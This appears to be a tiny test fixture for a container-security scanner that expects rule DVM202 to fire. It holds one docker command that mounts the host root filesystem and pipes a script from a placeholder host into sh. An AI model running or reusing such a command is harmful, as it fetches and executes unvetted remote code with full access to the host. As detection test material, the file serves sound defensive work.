# expect: DVM202
docker run --rm -v /:/h alpine:3.20 sh -c 'wget -qO- https://x.example.org/a | sh'
